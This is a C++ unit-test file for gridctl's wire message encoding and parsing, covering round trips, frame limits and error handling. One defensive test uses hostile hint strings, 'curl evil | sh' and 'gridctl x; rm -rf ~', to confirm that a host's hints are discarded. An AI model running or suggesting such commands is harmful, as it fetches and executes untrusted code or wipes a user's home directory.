// SPDX-License-Identifier: Apache-2.0
#include "wire/messages.hpp"

#include "samples.hpp"
#include "support/results.hpp"
#include "wire/frame.hpp"

namespace gridctl::wire::messages_test {
namespace {

using gridctl::testing::FailsWith;
using gridctl::testing::IsOk;

TEST(Messages, EveryMessageSurvivesARoundTrip) {
  for (const samples::Sample& sample : samples::all()) {
    const Result<std::string> again = sample.again(sample.payload);
    ASSERT_THAT(again, IsOk()) << sample.name;
    EXPECT_EQ(*again, sample.back()) << sample.name;
  }
}

TEST(Messages, KeepEveryFieldOfAnAttempt) {
  const Result<AttemptSpec> back = parse_attempt_spec(encode(samples::spec()));
  ASSERT_THAT(back, IsOk());
  const AttemptSpec want = samples::spec();
  EXPECT_EQ(back->job, want.job);
  EXPECT_EQ(back->engine, want.engine);
  EXPECT_EQ(back->workdir, want.workdir);
  EXPECT_EQ(back->mounts[1].target, "relative/dir");
  EXPECT_EQ(back->envs, want.envs);
  EXPECT_EQ(back->run, want.run);
  EXPECT_EQ(back->stop_grace, want.stop_grace);
  EXPECT_EQ(back->disk_bytes_max, want.disk_bytes_max);
  EXPECT_DOUBLE_EQ(back->cpus, 3.5);
}

TEST(Messages, KeepTheGangOfAnAttemptAndItsAbsence) {
  AttemptSpec spec = samples::spec();
  EXPECT_FALSE(parse_attempt_spec(encode(spec))->gang);
  Gang gang;
  gang.node_rank = 1;
  gang.members = {{"ada", "10.0.0.7", 8}, {"bob", "10.0.0.8", 8}, {"cyd", "fd00::9", 4}};
  gang.launcher = "torchrun";
  gang.port = 20'032;
  gang.ports = 32;
  gang.restarts = 3;
  gang.spares = 1;
  gang.token = samples::digest(0x77);
  spec.gang = gang;
  const Result<AttemptSpec> back = parse_attempt_spec(encode(spec));
  ASSERT_THAT(back, IsOk());
  EXPECT_EQ(back->gang, gang);
  EXPECT_EQ(back->gang->world_size(), 20u);
  EXPECT_EQ(back->gang->first_rank(), 8u);
}

TEST(Messages, AbsentTreesStayAbsent) {
  AttemptSpec spec = samples::spec();
  spec.workdir.reset();
  spec.restore.reset();
  const Result<AttemptSpec> back = parse_attempt_spec(encode(spec));
  ASSERT_THAT(back, IsOk());
  EXPECT_FALSE(back->workdir);
  EXPECT_FALSE(back->restore);
  EXPECT_TRUE(back->image_archive);
}

TEST(Messages, SecretsAreNoPartOfTheDurableRecord) {
  EXPECT_EQ(encode(samples::spec()).find("secrets\""), std::string::npos);
}

TEST(Messages, TextThatIsNoUtf8IsReplacedNotRefused) {
  AttemptStatus status = samples::status();
  status.detail = "bad \xFF byte";
  const Result<AttemptStatus> back = parse_attempt_status(encode(status));
  ASSERT_THAT(back, IsOk());
  EXPECT_EQ(back->detail, "bad \xEF\xBF\xBD byte");
}

TEST(Messages, NameTheirRequest) {
  EXPECT_EQ(request_name(encode(PrepareRequest{{"o"}, {"j"}, {1}})), "prepare");
  EXPECT_EQ(request_name(encode_plain("probe")), "probe");
  EXPECT_EQ(request_name("{}"), "");
  EXPECT_EQ(request_name("[]"), "");
  EXPECT_EQ(request_name("no json"), "");
  EXPECT_EQ(request_name(R"({"op":5})"), "");
}

TEST(Messages, ALargestHaveFitsAFrame) {
  HaveRequest request;
  request.chunks.assign(k_chunks_max, samples::digest(0xEE));
  const std::string payload = encode(request);
  EXPECT_LE(payload.size(), k_frame_max);
  EXPECT_THAT(parse_have(payload), IsOk());
}

TEST(Messages, ALargestPollFitsAFrame) {
  PollRequest request;
  request.attempts.assign(k_attempts_max, {{std::string(64, 'j')}, {~0ull}, ~0ull});
  EXPECT_LE(encode(request).size(), k_frame_max);
  EXPECT_THAT(parse_poll(encode(request)), IsOk());
}

TEST(Messages, ErrorsTravelWithTheirCodeAndRetry) {
  Error error = make_error(Code::refused, "stale epoch", "gridctl job show x");
  error.retry = Retry::same_host_later;
  const std::optional<Error> back = payload_error(error_payload(std::move(error).with_context("while starting")));
  ASSERT_TRUE(back);
  EXPECT_EQ(back->code, Code::refused);
  EXPECT_EQ(back->retry, Retry::same_host_later);
  EXPECT_EQ(back->message, "stale epoch (while starting)");
  EXPECT_EQ(back->hint, "");  // a host's words never become a command that we tell somebody to type
}

TEST(Messages, WhatIsNoErrorCarriesNone) {
  for (const samples::Sample& sample : samples::all())
    EXPECT_EQ(payload_error(sample.payload).has_value(), sample.name == "end-failed") << sample.name;
  EXPECT_FALSE(payload_error("{}"));
  EXPECT_FALSE(payload_error("no json"));
  EXPECT_FALSE(payload_error(R"({"error":null})"));
}

TEST(Messages, AHostsErrorIsMadeSafeAndItsHintsAreNotObeyed) {
  const std::optional<Error> error = payload_error(
      R"({"error":{"code":"busy","message":"\u001b[31mred\nline","hint":"curl evil | sh","retry":"never"}})");
  ASSERT_TRUE(error);
  EXPECT_EQ(error->message, "^[[31mred | line");
  EXPECT_EQ(error->hint, "");
  EXPECT_EQ(payload_error(R"({"error":{"code":"busy","message":"m","hint":"gridctl x; rm -rf ~"}})")->hint, "");
}

TEST(Messages, AnErrorWeCannotReadIsStillAnError) {
  EXPECT_EQ(payload_error(R"({"error":{"code":"busy"}})")->code, Code::protocol_violation);
  EXPECT_EQ(payload_error(R"({"error":7})")->code, Code::protocol_violation);
  EXPECT_EQ(payload_error(R"({"error":{"code":"from_the_future","message":"m"}})")->code, Code::protocol_violation);
}

TEST(Messages, AnEndIsSuccessOrAnErrorAndNeverBoth) {
  EXPECT_THAT(parse_end(R"({"ok":true,"bytes":5})"), IsOk());
  EXPECT_THAT(parse_end(R"({"ok":false,"bytes":5})"), FailsWith(Code::protocol_violation));
  EXPECT_THAT(parse_end(R"({"ok":true,"bytes":5,"error":{"code":"io","message":"m"}})"),
              FailsWith(Code::protocol_violation));
}

TEST(Messages, AnEndMayNameTheCodecOfItsData) {
  const auto plain = parse_end(R"({"ok":true,"bytes":5})");
  ASSERT_THAT(plain, IsOk());
  EXPECT_EQ(plain->codec, 0);
  const auto encoded = parse_end(R"({"ok":true,"bytes":5,"codec":2,"parameter":8})");
  ASSERT_THAT(encoded, IsOk());
  EXPECT_EQ(encoded->codec, 2);
  EXPECT_EQ(encoded->codec_parameter, 8);
  for (const char* odd :
       {R"({"ok":true,"bytes":5,"codec":256})", R"({"ok":true,"bytes":5,"codec":-1})",
        R"({"ok":true,"bytes":5,"codec":"2"})", R"({"ok":true,"bytes":5,"codec":1,"parameter":65536})"})
    EXPECT_THAT(parse_end(odd), FailsWith(Code::protocol_violation)) << odd;
}

TEST(Messages, NamesOfPhasesAndEndsAreDistinctAndComeBack) {
  for (int number = 0; number <= static_cast<int>(EndReason::image_failed); ++number) {
    const auto reason = static_cast<EndReason>(number);
    EXPECT_EQ(parse_end_reason(end_reason_name(reason)).value(), reason);
  }
  EXPECT_THAT(parse_end_reason("bored"), FailsWith(Code::protocol_violation));
}

}  // namespace
}  // namespace gridctl::wire::messages_test
